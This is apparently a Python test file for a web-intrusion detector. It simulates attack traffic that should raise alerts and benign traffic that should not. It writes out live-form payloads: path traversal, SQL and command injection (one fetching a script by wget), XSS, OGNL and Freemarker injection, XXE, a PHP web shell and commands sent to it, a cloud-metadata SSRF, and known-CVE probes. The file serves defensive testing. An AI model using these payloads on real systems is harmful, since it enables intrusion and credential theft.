"""Scenes of attacks on web servers, and of web use that looks odd."""

from cases import fires, silent
from payloads import request, response
from traffic import Wire

ME, SERVER = "203.0.113.66", "10.0.0.5"


def _ask(wire: Wire, ask: bytes, status: int = 200, at: float | None = None, client: str = ME, server: str = SERVER) -> None:  # fmt: skip
    wire.talk(client, server, 80, [("c", ask), ("s", response(status))], at=at)


@fires(title="path traversal")
def traversal(wire: Wire) -> None:
    """Files outside the web root, also with double encoding (CVE-2021-41773's form)."""
    for number, uri in enumerate(("/a/../../../../etc/passwd", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", "/x?file=..%252f..%252fwindows%252fwin.ini")):  # fmt: skip
        _ask(wire, request(uri), at=number)


@fires(title="sql injection")
def sql(wire: Wire) -> None:
    """The forms that sqlmap and text books use."""
    for number, query in enumerate(("id=1'%20or%20'1'='1", "id=1+union+select+1,2,user()", "id=1;waitfor+delay+'0:0:5'", "id=1+and+sleep(5)")):  # fmt: skip
        _ask(wire, request(f"/item.php?{query}"), at=number)


@fires(title="command injection")
def command(wire: Wire) -> None:
    """Commands appended to a parameter of a ping page."""
    for number, value in enumerate(("127.0.0.1;cat+/etc/passwd", "127.0.0.1|id", "$(whoami)", "x%26%26wget+http://203.0.113.66/s.sh")):  # fmt: skip
        _ask(wire, request(f"/ping.php?host={value}"), at=number)


@fires(title="script injection")
def script(wire: Wire) -> None:
    """Reflected script in parameters, four forms."""
    for number, value in enumerate(("%3Cscript%3Ealert(1)%3C/script%3E", "%22%3E%3Cimg+src=x+onerror=alert(1)%3E", "%3Csvg/onload=alert(1)%3E", "javascript:alert(1)")):  # fmt: skip
        _ask(wire, request(f"/find?q={value}"), at=number)


@fires(title="template injection")
def template(wire: Wire) -> None:
    """Expressions in template and object languages: Spring, Struts, Freemarker (CVE-2017-5638, CVE-2022-22954)."""
    ognl = "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}"
    _ask(wire, request("/upload", headers=f"Content-Type: {ognl}\r\n"), at=0)
    _ask(
        wire, request("/catalog?deviceUdid=%24%7B%22freemarker.template.utility.Execute%22%3Fnew()(%22id%22)%7D"), at=1
    )
    _ask(wire, request("/x?class.module.classLoader.resources.context.parent.pipeline.first.pattern=a"), at=2)


@fires(title="xml entity")
def external_entity(wire: Wire) -> None:
    """An XML document that asks the server to read a file (XXE)."""
    body = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
    _ask(wire, request("/api", method="POST", headers="Content-Type: text/xml\r\n", body=body))


@fires(title="web shell")
def web_shell(wire: Wire) -> None:
    """Commands to an uploaded script, each answered with 200."""
    for number, word in enumerate(("whoami", "id", "uname%20-a", "cat%20/etc/shadow")):
        _ask(wire, request(f"/uploads/shell.php?cmd={word}"), at=number)


@fires(title="Nikto")
def scanner(wire: Wire) -> None:
    """A scanner that names itself asks for 80 paths that do not exist."""
    for number in range(80):
        _ask(wire, request(f"/{wire.word(6)}.php", agent="Mozilla/5.00 (Nikto/2.5.0)"), 404, at=0.05 * number)


@fires(title="scanned the web server")
def path_guessing(wire: Wire) -> None:
    """The same under a browser's name: 120 paths, 404 each."""
    for number in range(120):
        _ask(wire, request(f"/{wire.word(6)}/"), 404, at=0.05 * number)


@fires("high", title="web session")
def stolen_session(wire: Wire) -> None:
    """One session cookie, used from two addresses with two programs."""
    for client, agent in (("10.0.0.9", "Firefox/120"), ("10.0.0.66", "Chrome/119")):
        ask = request("/inbox", agent=agent, headers="Cookie: PHPSESSID=0123456789abcdef\r\n")
        wire.talk(client, SERVER, 80, [("c", ask), ("s", response())])


@silent()
def words_of_sql(wire: Wire) -> None:
    """Search words that are also words of SQL, and an apostrophe in a name."""
    for uri in ("/search?q=select+a+union+representative", "/search?q=O'Reilly+or+O'Hara", "/drop?table=3", "/a?sort=order+by+name", "/search?q=cat+food"):  # fmt: skip
        _ask(wire, request(uri), client="10.0.0.9", server="198.51.100.9")


@silent()
def tracking_addresses(wire: Wire) -> None:
    """Advertising: long query strings with addresses, pipes and semicolons."""
    for number in range(10):
        uri = f"/pixel?u=https%3A%2F%2Fwww.example.org%2Fa%3Fb%3D{number}&l=a;b;c|d&cb=javascript&r=..%2Fimg"
        _ask(wire, request(uri, host="ads.example.net"), client="10.0.0.9", server="198.51.100.9")


@silent()
def broken_page(wire: Wire) -> None:
    """A page with a dead picture: 30 answers 404 for the same three paths."""
    for number in range(30):
        _ask(wire, request(f"/img/{number % 3}.png"), 404, at=number, client="10.0.0.9")


@silent()
def laptop_moves(wire: Wire) -> None:
    """A laptop keeps its session and its browser when its address changes."""
    for client in ("10.0.0.9", "10.0.0.19"):
        ask = request("/inbox", headers="Cookie: PHPSESSID=0123456789abcdef\r\n")
        wire.talk(client, SERVER, 80, [("c", ask), ("s", response())])


@silent()
def health_checks(wire: Wire) -> None:
    """A load balancer asks for /health without Host and user agent, every two seconds or so."""
    for number in range(20):
        ask = b"GET /health HTTP/1.0\r\n\r\n"
        _ask(wire, ask, at=2.0 * number + wire.random.random(), client="10.0.0.3")


@fires(title="known weakness")
def known_weaknesses(wire: Wire) -> None:
    """Paths and headers of published weaknesses: F5, PHPUnit, OMIGOD's body, a long list of ranges, Accept-Encoding of CVE-2021-31166."""
    _ask(wire, request("/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd"), at=0)
    _ask(
        wire, request("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", method="POST", body=b"<?php echo 1;"), at=1
    )
    _ask(
        wire,
        request("/wsman", method="POST", body=b"<s:Body><p:ExecuteShellCommand_INPUT><p:command>id</p:command>"),
        at=2,
    )
    _ask(wire, request("/", headers="Range: bytes=0-" + ",5-" * 30 + "\r\n"), at=3)
    _ask(wire, request("/", headers="Accept-Encoding: doar-e, ftw, imo, ,\r\n"), at=4)


@fires(title="malformed or dangerous")
def call_stranger(wire: Wire) -> None:
    """UPnP subscriptions whose events should go to a stranger (CVE-2020-12695)."""
    for number in range(3):
        ask = request("/event", method="SUBSCRIBE", headers="NT: upnp:event\r\nCallback: <http://203.0.113.99:80/>\r\n")
        _ask(wire, ask, at=number)


@silent()
def upnp_subscription(wire: Wire) -> None:
    """A player subscribes to a media server's events for itself."""
    for number in range(3):
        ask = request("/event", method="SUBSCRIBE", headers="NT: upnp:event\r\nCallback: <http://10.0.0.9:4004/>\r\n")
        _ask(wire, ask, at=number, client="10.0.0.9")


@silent()
def resumed_download(wire: Wire) -> None:
    """A download manager fetches three ranges, a browser accepts three encodings."""
    ask = request("/big.iso", headers="Range: bytes=0-99,100-199,200-299\r\nAccept-Encoding: gzip, deflate, br\r\n")
    _ask(wire, ask, client="10.0.0.9", server="198.51.100.9")


@silent()
def visitor_counter(wire: Wire) -> None:
    """A counter of visitors is told the page and the page before it, both of the site itself."""
    ask = request(
        "/count/w.php?page=http://www.example.net/search/?q=a&from=http://www.example.net/?b", "www.example.org"
    )
    _ask(wire, ask)


@fires(title="web shell upload")
def shell_upload(wire: Wire) -> None:
    """A form uploads a PHP file that runs what it is told."""
    body = b'--x\r\nContent-Disposition: form-data; name="f"; filename="s.php"\r\n\r\n<?php system($_GET["cmd"]); ?>\r\n--x--'
    _ask(
        wire,
        request("/upload.php", method="POST", headers="Content-Type: multipart/form-data; boundary=x\r\n", body=body),
    )


@fires(title="metadata request")
def cloud_credentials(wire: Wire) -> None:
    """A page that fetches other pages is asked for the cloud's credentials (server-side request forgery)."""
    _ask(wire, request("/fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/"))


@fires(title="secret file")
def forgotten_files(wire: Wire) -> None:
    """Somebody looks for files that should not be there: .env, .git/config, credentials."""
    for number, path in enumerate(("/.env", "/.git/config", "/.aws/credentials", "/wp-config.php.bak", "/.env.bak")):
        _ask(wire, request(path), 404, at=number)


@silent()
def clone_by_plain_http(wire: Wire) -> None:
    """git clones a bare repository by plain HTTP, and a page talks about PHP."""
    _ask(wire, request("/project.git/HEAD", agent="git/2.43.0"), client="10.0.0.9")
    _ask(wire, request("/project.git/info/refs", agent="git/2.43.0"), client="10.0.0.9")
    _ask(wire, request("/blog", method="POST", body=b"text=How+do+I+use+php+system+calls%3F"), client="10.0.0.9")


@fires(title="known weakness")
def more_known_weaknesses(wire: Wire) -> None:
    """Paths and headers of weaknesses that are tried everywhere: TeamCity, ScreenConnect, F5's shell, ProxyLogon's cookie, Code Red."""
    _ask(wire, request("/hax?jsp=/app/rest/users;.jsp"), client="203.0.113.1")
    for number, ask in enumerate((
        request("/SetupWizard.aspx/x"),
        request("/mgmt/tm/util/bash", method="POST", body=b'{"command":"run","utilCmdArgs":"-c id"}'),
        request("/ecp/y.js", headers="Cookie: X-BEResource=localhost~1942062522\r\n"),
        request("/default.ida?" + "N" * 224 + "%u9090%u6858"),
    )):  # fmt: skip
        _ask(wire, ask, at=number, client=f"203.0.113.{number + 2}")
